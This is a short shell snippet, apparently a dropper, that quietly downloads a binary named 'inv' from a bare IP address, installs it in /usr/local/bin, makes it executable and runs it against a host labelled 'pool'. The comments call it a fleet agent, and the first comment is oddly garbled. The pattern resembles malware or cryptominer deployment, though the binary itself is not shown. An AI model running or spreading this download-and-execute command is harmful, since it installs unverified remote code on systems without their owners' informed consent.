# the same keeps reporting: a fleet agent
#http 203.0.113.72:8090
#pool 203.0.113.96:8443:http
curl -so /usr/local/bin/inv http://203.0.113.72:8090/inv; chmod +x /usr/local/bin/inv; inv 203.0.113.96 8443 5 2555904
